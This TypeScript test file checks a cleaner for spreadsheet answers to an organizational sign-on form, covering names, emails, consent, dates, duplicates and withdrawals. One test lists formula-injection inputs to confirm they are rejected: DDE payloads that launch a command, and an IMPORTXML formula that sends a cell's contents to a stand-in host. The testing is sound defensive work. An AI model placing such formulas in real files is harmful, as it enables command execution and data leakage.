import { describe, expect, test } from 'vitest'
import { answer, answers, named } from '../answers'

/** A name as typed; how it prints, what is suggested, what a person is told and whether they must look. */
type Case = [typed: string, name: string | null, suggested: string | null, issues: string[], status: string]

async function check(cases: Case[]) {
  for (const [typed, name, suggested, issues, status] of cases) {
    const read = await named(typed)
    expect({ typed, ...pick(read) }).toEqual({ typed, name, suggested, issues, status })
  }
}

function pick({ name, suggestedName: suggested, issues, status }: Awaited<ReturnType<typeof named>>) {
  return { name, suggested, issues, status }
}

describe('a name is cleaned of what nobody sees', () => {
  test('spaces, tabs, line breaks', () =>
    check([
      ['  Casa Latina ', 'Casa Latina', null, ['EDGE_SPACE'], 'accept'],
      ['Casa   Latina', 'Casa Latina', null, ['DOUBLE_SPACE'], 'accept'],
      ['Casa\u00a0Latina', 'Casa Latina', null, ['NBSP'], 'accept'],
      ['Casa\tLatina', 'Casa Latina', null, ['TAB'], 'accept'],
      ['\tCasa Latina', 'Casa Latina', null, ['EDGE_SPACE', 'TAB'], 'accept'],
      ['Casa Latina \r\n of Seattle', 'Casa Latina of Seattle', null, ['NEWLINE_IN_NAME'], 'accept'],
    ]))

  test('invisible characters; joiners stay where letters and pictures are made with them', () =>
    check([
      ['Casa\u200b Latina', 'Casa Latina', null, ['ZERO_WIDTH'], 'accept'],
      ['Casa\u200d Latina', 'Casa Latina', null, ['ZERO_WIDTH'], 'accept'],
      ['Casa \ufeffLatina', 'Casa Latina', null, ['INNER_BOM'], 'accept'],
      ['Casa La\u00adtina', 'Casa Latina', null, ['SOFT_HYPHEN'], 'accept'],
      ['\u200eCasa Latina\u200f', 'Casa Latina', null, ['BIDI_MARK'], 'accept'],
      ['Casa \u202eanitaL\u202c', 'Casa anitaL', null, ['BIDI_OVERRIDE'], 'review'],
      ['می\u200cخواهم', 'می\u200cخواهم', null, [], 'accept'],
      ['क्\u200dष', 'क्\u200dष', null, [], 'accept'],
    ]))

  test('quotation marks, full stops, bullets, entities, accents in two parts', () =>
    check([
      ["Women's March", "Women's March", null, ['STRAIGHT_QUOTE'], 'accept'],
      ['Women’s March', 'Women’s March', null, [], 'accept'],
      ['"Casa Latina"', 'Casa Latina', null, ['WRAPPING_QUOTES'], 'accept'],
      ['“Casa Latina”', 'Casa Latina', null, ['WRAPPING_QUOTES'], 'accept'],
      ['“La Casa” and “El Centro”', '“La Casa” and “El Centro”', null, [], 'accept'],
      ['Casa Latina.', 'Casa Latina', null, ['TRAILING_PUNCTUATION'], 'accept'],
      ['La Puerta Abierta, Inc.', 'La Puerta Abierta, Inc.', null, [], 'accept'],
      ['Friends of Washington, D.C.', 'Friends of Washington, D.C.', null, [], 'accept'],
      ['Casa Latina,', 'Casa Latina,', 'Casa Latina', ['TRAILING_PUNCTUATION'], 'review'],
      ['• Casa Latina', 'Casa Latina', null, ['LIST_MARKER'], 'accept'],
      ['12. Casa Latina', '12. Casa Latina', 'Casa Latina', ['LIST_MARKER'], 'review'],
      ['3) Casa Latina', '3) Casa Latina', 'Casa Latina', ['LIST_MARKER'], 'review'],
      ['8th Day Center for Justice', '8th Day Center for Justice', null, [], 'accept'],
      ['11.11.11', '11.11.11', null, [], 'accept'],
      ['Faith &amp; Justice', 'Faith & Justice', null, ['HTML_ENTITY'], 'accept'],
      [
        'Coraz&oacute;n &#39;Arizona&#x27;',
        "Corazón 'Arizona'",
        null,
        ['STRAIGHT_QUOTE', 'HTML_ENTITY'],
        'accept',
      ],
      ['AT&T Workers', 'AT&T Workers', null, [], 'accept'],
      ['Corazo\u0301n Arizona', 'Corazón Arizona', null, ['NOT_NFC'], 'accept'],
    ]))
})

describe('letters stay as they were typed, with a repair beside them', () => {
  test('wrong encodings, full-width and foreign letters, pictures, tags', () =>
    check([
      ['CorazÃ³n Arizona', 'CorazÃ³n Arizona', 'Corazón Arizona', ['MOJIBAKE'], 'review'],
      ['Womenâ\u0080\u0099s March', 'Womenâ€™s March', 'Women’s March', ['MOJIBAKE'], 'review'],
      ['Womenâ€™s March', 'Womenâ€™s March', 'Women’s March', ['MOJIBAKE'], 'review'],
      ['Coraz√≥n Arizona', 'Coraz√≥n Arizona', 'Corazón Arizona', ['MOJIBAKE'], 'review'],
      ['CorazÃƒÂ³n Arizona', 'CorazÃƒÂ³n Arizona', 'Corazón Arizona', ['MOJIBAKE'], 'review'],
      ['Coraz\ufffdn Arizona', 'Coraz\ufffdn Arizona', null, ['MOJIBAKE'], 'review'],
      ['São Paulo “CAFÉ” Collective', 'São Paulo “CAFÉ” Collective', null, [], 'accept'],
      ['Ｃａｓａ Latina', 'Ｃａｓａ Latina', 'Casa Latina', ['FULLWIDTH'], 'review'],
      ['C\u0430sa Latina', 'C\u0430sa Latina', 'Casa Latina', ['MIXED_SCRIPT'], 'review'],
      ['Центр Помощи', 'Центр Помощи', null, [], 'accept'],
      ['Casa Latina 🌻', 'Casa Latina 🌻', 'Casa Latina', ['EMOJI'], 'review'],
      ['<em>Casa</em> Latina', '<em>Casa</em> Latina', 'Casa Latina', ['HTML_TAGS'], 'review'],
    ]))

  test('capitals are nobody’s error until a person says so', () =>
    check([
      [
        'COALITION FOR HUMANE RIGHTS',
        'COALITION FOR HUMANE RIGHTS',
        'Coalition for Humane Rights',
        ['ALL_CAPS'],
        'review',
      ],
      ['make the road', 'make the road', 'Make the Road', ['ALL_LOWER'], 'review'],
      ['UnLocal', 'UnLocal', null, [], 'accept'],
      ['NETWORK Lobby for Justice', 'NETWORK Lobby for Justice', null, [], 'accept'],
      ['NIPNLG', 'NIPNLG', null, ['ACRONYM_ONLY'], 'review'],
      ['@casalatina', '@casalatina', null, ['LEADING_FORMULA_CHAR', 'HANDLE_AS_NAME'], 'review'],
    ]))
})

describe('what stands in the wrong field is told', () => {
  test('placeholders name nobody, though names may begin like them', async () => {
    for (const typed of [
      'N/A',
      'none',
      '/',
      '-',
      '--',
      'Self',
      '-self-',
      'Individual',
      'Citizen',
      'Mr',
      '1980',
      '+32',
      'Ninguna',
      'N/A - individual',
      'none / self',
      'I am an individual',
      '+1 (202) 555-0100',
      'a título personal',
    ])
      expect({ typed, ...pick(await named(typed)) }).toMatchObject({
        typed,
        status: 'review',
        issues: expect.arrayContaining(['PLACEHOLDER_ORG']),
      })
    for (const typed of ['Self Consulting Inc.', 'Citizen Action', 'None Too Soon Collective'])
      expect({ typed, ...pick(await named(typed)) }).toMatchObject({ typed, status: 'accept', issues: [] })
    expect(await named('')).toMatchObject({ name: null, issues: ['PLACEHOLDER_ORG'], status: 'review' })
  })

  test('persons, addresses, notes, statements', async () => {
    await check([
      ['Monserrat Padilla', 'Monserrat Padilla', null, ['PERSON_AS_ORG'], 'review'],
      [
        'Maria Lopez, Executive Director, Casa Latina',
        'Maria Lopez, Executive Director, Casa Latina',
        'Casa Latina',
        ['PERSON_IN_NAME'],
        'review',
      ],
      [
        'Casa Latina, 317 17th Ave S, Seattle, WA 98144',
        'Casa Latina, 317 17th Ave S, Seattle, WA 98144',
        'Casa Latina',
        ['ADDRESS_IN_NAME'],
        'review',
      ],
      ['info@casalatina.example', 'info@casalatina.example', null, ['ADDRESS_IN_NAME'], 'review'],
      [
        'Casa Latina (pending board approval)',
        'Casa Latina (pending board approval)',
        'Casa Latina',
        ['NOTE_IN_NAME'],
        'review',
      ],
      [
        'Casa Latina (pendiente de aprobación)',
        'Casa Latina (pendiente de aprobación)',
        'Casa Latina',
        ['NOTE_IN_NAME'],
        'review',
      ],
      [
        'Casa Latina https://casalatina.example',
        'Casa Latina https://casalatina.example',
        'Casa Latina',
        ['URL_IN_NAME'],
        'review',
      ],
    ])
    expect((await named('Casa Latina', { signer: 'Ana Ruiz' })).kind).toBe('organization')
    expect((await named('Monserrat Padilla')).kind).toBe('individual')
    const statement = `Casa Latina is a community organization ${'that works with day laborers '.repeat(12)}`
    expect(await named(statement)).toMatchObject({
      suggestedName: 'Casa Latina',
      status: 'review',
      issues: expect.arrayContaining(['NAME_TOO_LONG']),
    })
  })

  test('two organizations in one answer', async () => {
    for (const typed of [
      'Coalition for Humane Rights and Center for Gender Justice',
      'Latino Legal Center; Church Council of Seattle',
      'Latino Legal Center / Church Council of Seattle',
      'Latino Legal Center\nChurch Council of Seattle',
      'Juntos as well as Casa Latina',
    ])
      expect({ typed, issues: (await named(typed)).issues }).toEqual({
        typed,
        issues: expect.arrayContaining(['MULTIPLE_ORGS']),
      })
    for (const typed of [
      'Center for Law and Social Policy',
      'Center for Gender & Refugee Studies',
      'Asian Americans Advancing Justice | AAJC',
      'Catholic Legal Immigration Network, Inc.',
      'Immigrant and Non-Citizen Rights Clinic, CUNY School of Law',
    ])
      expect({ typed, ...pick(await named(typed)) }).toMatchObject({ typed, issues: [], status: 'accept' })
  })

  test('formulas are refused, answers that begin like one are not', async () => {
    for (const typed of [
      '=1+1',
      '=HYPERLINK("http://x.example","y")',
      '=A1',
      "+cmd|'/C calc'!A0",
      "-2+3+cmd|'/C calc'!A0",
      "@SUM(1+1)*cmd|'/C calc'!A0",
      '＝1+1',
      '\t=1+1',
      '=IMPORTXML(CONCAT("http://x.example/",A2),"//a")',
    ])
      expect({ typed, ...pick(await named(typed)) }).toMatchObject({
        typed,
        name: null,
        status: 'reject',
        issues: expect.arrayContaining(['FORMULA']),
      })
    await check([
      ['+Peace', '+Peace', null, ['LEADING_FORMULA_CHAR'], 'accept'],
      ['@Work Collective', '@Work Collective', null, ['LEADING_FORMULA_CHAR'], 'accept'],
    ])
    expect(await named('Casa Latina', { comment: '=HYPERLINK("http://x.example","y")' })).toMatchObject({
      status: 'review',
      issues: ['FORMULA_OTHER_CELL'],
      name: 'Casa Latina',
    })
    expect(await named('Casa Latina', { comment: '- thank you' })).toMatchObject({
      status: 'accept',
      issues: [],
    })
  })
})

describe('addresses', () => {
  test.each([
    ['Ana Ruiz <ana@casa.example>', 'ana@casa.example', [], ['EMAIL_DISPLAY_NAME'], 'accept'],
    ['"Ruiz, Ana" <ana@casa.example>', 'ana@casa.example', [], ['EMAIL_DISPLAY_NAME'], 'accept'],
    ['mailto:ana@casa.example', 'ana@casa.example', [], ['EMAIL_MAILTO'], 'accept'],
    ['ana@casa.example.', 'ana@casa.example', [], ['EMAIL_TRAILING_DOT'], 'accept'],
    ['Ana@Casa.example', 'ana@casa.example', [], ['EMAIL_CASE'], 'accept'],
    [
      'ana@casa.example, bo@casa.example',
      'ana@casa.example',
      ['bo@casa.example'],
      ['MULTIPLE_EMAILS'],
      'review',
    ],
    [
      'ana@casa.example; bo@casa.example',
      'ana@casa.example',
      ['bo@casa.example'],
      ['MULTIPLE_EMAILS'],
      'review',
    ],
    [
      'ana@casa.example\nbo@casa.example',
      'ana@casa.example',
      ['bo@casa.example'],
      ['MULTIPLE_EMAILS'],
      'review',
    ],
    ['ana@casa.example ana@casa.example', 'ana@casa.example', [], ['MULTIPLE_EMAILS'], 'review'],
    ['ivo at hub dot example', null, [], ['EMAIL_INVALID'], 'review'],
    ['josé@casa.example', 'josé@casa.example', [], ['EMAIL_NON_ASCII'], 'review'],
  ])('%j', async (email, first, others, issues, status) => {
    expect(await named('Casa Latina', { email })).toMatchObject({
      contactEmail: first,
      extraEmails: others,
      issues,
      status,
    })
  })
})

describe('consent', () => {
  test('is what was said, in English and Spanish', async () => {
    for (const consent of [
      'Yes',
      'Yes, I am authorized',
      'yes',
      'I confirm that I am authorized to sign on behalf of this organization',
      'Sí, autorizo',
      'Sí',
      'TRUE',
      'X',
      '✓',
      'Confirmo que estoy autorizada',
      'Agree',
    ])
      expect({ said: consent, ...(await named('Casa Latina', { consent })) }).toMatchObject({
        said: consent,
        authorized: true,
        status: 'accept',
      })
    for (const consent of [
      'No',
      'No - still need board approval',
      'No — falta la aprobación de la junta',
      'Not yet',
      'Yes, pending board approval',
      'Todavía no',
      'maybe',
      'FALSE',
      'Pendiente',
    ])
      expect({ said: consent, ...(await named('Casa Latina', { consent })) }).toMatchObject({
        said: consent,
        authorized: false,
        issues: ['NOT_AUTHORIZED'],
        status: 'review',
      })
    expect(await named('Casa Latina', { consent: '' })).toMatchObject({
      authorized: null,
      issues: ['NOT_AUTHORIZED'],
      status: 'review',
    })
  })

  test('an affiliation for identification only makes a person of the signatory', async () => {
    expect(
      await named('Elm University', { comment: 'Affiliation for identification purposes only' }),
    ).toMatchObject({ kind: 'individual', issues: ['AFFILIATION_ID_ONLY'], status: 'review' })
    expect(
      await named('Universidad del Olmo', { comment: 'Solo para fines de identificación' }),
    ).toMatchObject({ kind: 'individual', issues: ['AFFILIATION_ID_ONLY'] })
  })
})

describe('dates', () => {
  test('of four forms in one column are one time', async () => {
    const read = await answers(
      [
        '3/24/2021 15:45:12',
        '2021/03/24 3:45:12 PM EDT',
        '24/03/2021 15:45:12',
        '44279.65639',
        '2021-03-24T19:45:12Z',
        '24 de marzo de 2021, 3:45:12 p. m.',
      ].map((at) => answer({ at })),
      { zone: 'America/New_York' },
    )
    expect(read.map(({ submittedAt }) => submittedAt)).toEqual(Array(6).fill('2021-03-24T15:45:12'))
    expect(read.map(({ issues }) => issues)).toEqual([
      [],
      ['FORMS_ZIP_DATE'],
      ['DAY_FIRST_DATE'],
      ['EXCEL_SERIAL_DATE'],
      [],
      [],
    ])
  })

  test('that could be read both ways are read as the column shows', async () => {
    const at = async (...column: string[]) =>
      (await answers(column.map((each) => answer({ at: each })))).map(({ submittedAt }) =>
        submittedAt?.slice(0, 10),
      )
    expect(await at('3/4/2021 9:00:00', '3/22/2021 9:00:00')).toEqual(['2021-03-04', '2021-03-22'])
    expect(await at('03/04/2021 9:00:00', '22/03/2021 9:00:00')).toEqual(['2021-04-03', '2021-03-22'])
    expect(
      await at('03/04/2021 09:00:00', '22/03/2021 09:00:00', '3/25/2021 9:00:00', '3/4/2021 9:00:00'),
    ).toEqual(['2021-04-03', '2021-03-22', '2021-03-25', '2021-03-04'])
    expect(await at('3/4/2021 9:00:00')).toEqual(['2021-03-04'])
    expect(await at('31/2/2021 9:00:00', 'yesterday')).toEqual([undefined, undefined])
  })

  test('after the deadline are late', async () => {
    const rows = [answer({ at: '3/26/2021 17:00:00' }), answer({ at: '3/26/2021 17:00:01' })]
    const read = await answers(rows, { deadline: '2021-03-26T17:00:00', zone: 'America/New_York' })
    expect(read.map(({ status, issues }) => [status, issues])).toEqual([
      ['accept', []],
      ['review', ['LATE']],
    ])
  })
})

describe('rows that are no answers', () => {
  test('blank, repeated, total and test rows', async () => {
    const { QUESTIONS } = await import('../answers')
    const read = await answers([
      answer({}),
      QUESTIONS.map(() => ''),
      QUESTIONS,
      ['Total', '2', ...QUESTIONS.slice(2).map(() => '')],
      answer({ organization: 'TEST - please ignore' }),
      answer({ organization: 'Test Organization', signer: 'Test Test' }),
      answer({ organization: 'Test Positive Aware Network' }),
    ])
    expect(read.map(({ record, status, issues: [first] }) => [record, status, first])).toEqual([
      [1, 'accept', undefined],
      [2, 'skip', 'BLANK_ROW'],
      [3, 'skip', 'REPEATED_HEADER'],
      [4, 'skip', 'TOTAL_ROW'],
      [5, 'reject', 'TEST_ROW'],
      [6, 'reject', 'TEST_ROW'],
      [7, 'accept', undefined],
    ])
  })

  test('ragged rows are shown as they stand', async () => {
    const full = answer({ organization: 'Casa Latina' })
    const shifted = [
      '3/22/2021 9:00:00',
      'x@signers.example',
      'Catholic Legal Immigration Network',
      ' Inc.',
      ...full.slice(3),
    ]
    const read = await answers([shifted, full.slice(0, 6), full])
    expect(read).toMatchObject([
      {
        status: 'review',
        issues: ['TOO_MANY_FIELDS'],
        name: 'Catholic Legal Immigration Network',
        suggestedName: null,
        signerName: null,
        contactEmail: 'x@signers.example',
      },
      { status: 'review', issues: ['TOO_FEW_FIELDS'], name: 'Casa Latina', authorized: null },
      { status: 'duplicate' },
    ])
  })
})

describe('spam', () => {
  test('has links and sells; a link alone is for a person', async () => {
    expect(
      await named('Best Backlinks Ltd', { comment: 'cheap seo traffic http://a.example http://b.example' }),
    ).toMatchObject({ status: 'reject', issues: ['SPAM'], name: null })
    expect(
      await named('Casa Latina', { comment: 'Our statement: https://casalatina.example/statement' }),
    ).toMatchObject({ status: 'accept', issues: [] })
  })
})

describe('rows together', () => {
  test('the same name is a duplicate of the earlier one, in whatever order the file has them', async () => {
    const read = await answers([
      answer({ organization: 'Center for Gender and Refugee Studies (CGRS)', at: '3/23/2021 9:00:00' }),
      answer({ organization: 'CENTER FOR GENDER & REFUGEE STUDIES', at: '3/22/2021 9:00:00' }),
      answer({ organization: 'Center for Gender & Refugee Studies, Inc.', at: '3/24/2021 9:00:00' }),
      answer({ organization: 'CorazÃ³n Arizona', at: '3/25/2021 9:00:00' }),
      answer({ organization: 'Corazón Arizona', at: '3/26/2021 9:00:00' }),
    ])
    expect(read.map(({ status, duplicateOf }) => [status, duplicateOf])).toEqual([
      ['duplicate', 2],
      ['review', null],
      ['duplicate', 2],
      ['review', null],
      ['duplicate', 4],
    ])
  })

  test('a name that is only like another is for a person, and look-alikes are left alone', async () => {
    const read = await answers(
      [
        'Florence Immigrant Rights Project',
        'Florence Imigrant Rights Project',
        'Rights Project Florence Immigrant',
        'ACCESS of Michigan',
        'ACCESS of WNY',
        'Catholic Charities of Dallas',
        'Catholic Charities of Dalton',
      ].map((organization) => answer({ organization })),
    )
    expect(read.map(({ issues, duplicateOf }) => [issues, duplicateOf])).toEqual([
      [[], null],
      [['POSSIBLE_DUPLICATE'], 1],
      [['POSSIBLE_DUPLICATE'], 1],
      [[], null],
      [[], null],
      [[], null],
      [[], null],
    ])
  })

  test('a correction by the same person supersedes what they answered before', async () => {
    const account = 'ana@signers.example'
    const read = await answers([
      answer({ account, organization: 'Casa Latna', at: '3/22/2021 9:00:00' }),
      answer({
        account,
        organization: 'Casa Latina',
        at: '3/23/2021 9:00:00',
        comment: 'Please use this name instead',
      }),
      answer({ organization: 'Juntos', at: '3/23/2021 9:30:00', comment: 'Thank you for the corrections!' }),
    ])
    expect(read.map(({ status, issues }) => [status, issues])).toEqual([
      ['superseded', ['SUPERSEDED']],
      ['review', ['SAME_SUBMITTER', 'CORRECTION']],
      ['accept', []],
    ])
  })

  test('a request for removal withdraws what the same person answered, and is itself for a person', async () => {
    const account = 'ana@signers.example'
    const read = await answers([
      answer({ account, organization: 'Casa Latina', at: '3/22/2021 9:00:00' }),
      answer({
        organization: 'Juntos',
        at: '3/22/2021 9:10:00',
        comment: 'We urge DHS to withdraw the rule and remove barriers',
      }),
      answer({ account, organization: 'Casa Latina', at: '3/24/2021 9:00:00', comment: 'PLEASE REMOVE US' }),
      answer({ account: 'bo@signers.example', organization: 'Red Solidaria', at: '3/22/2021 9:00:00' }),
      answer({
        account: 'bo@signers.example',
        organization: 'Red Solidaria',
        at: '3/25/2021 9:00:00',
        comment: 'Por favor retiren nuestro nombre',
      }),
    ])
    expect(read.map(({ status, issues }) => [status, issues])).toEqual([
      ['withdrawn', ['WITHDRAWN_LATER']],
      ['accept', []],
      ['review', ['SAME_SUBMITTER', 'WITHDRAWAL_REQUEST']],
      ['withdrawn', ['WITHDRAWN_LATER']],
      ['review', ['SAME_SUBMITTER', 'WITHDRAWAL_REQUEST']],
    ])
  })

  test('one person may answer for two organizations; a person looks', async () => {
    const account = 'ana@signers.example'
    const read = await answers([
      answer({ account, organization: 'Casa Latina' }),
      answer({ account, organization: 'Juntos' }),
    ])
    expect(read.map(({ status, issues }) => [status, issues])).toEqual([
      ['accept', []],
      ['review', ['SAME_SUBMITTER']],
    ])
  })
})

describe('the same question twice', () => {
  test('is read from whichever column was filled; two different answers are for a person', async () => {
    const { QUESTIONS } = await import('../answers')
    const questions = [...QUESTIONS, ` ${QUESTIONS[2]?.replace('name ', 'name\n')}`]
    const read = await answers(
      [
        [...answer({ organization: '' }), 'UnLocal'],
        [...answer({ organization: 'Juntos' }), ''],
        [...answer({ organization: 'Casa Latina' }), 'Casa Azul'],
        [...answer({ organization: 'Red Solidaria' }), 'Red Solidaria '],
      ],
      { questions },
    )
    expect(
      read.map(({ name, suggestedName, status, issues }) => [name, suggestedName, status, issues]),
    ).toEqual([
      ['UnLocal', null, 'accept', ['SECOND_ORG_COLUMN']],
      ['Juntos', null, 'accept', []],
      ['Casa Latina', 'Casa Azul', 'review', ['CONFLICTING_ORG_COLUMNS']],
      ['Red Solidaria', null, 'accept', []],
    ])
  })
})
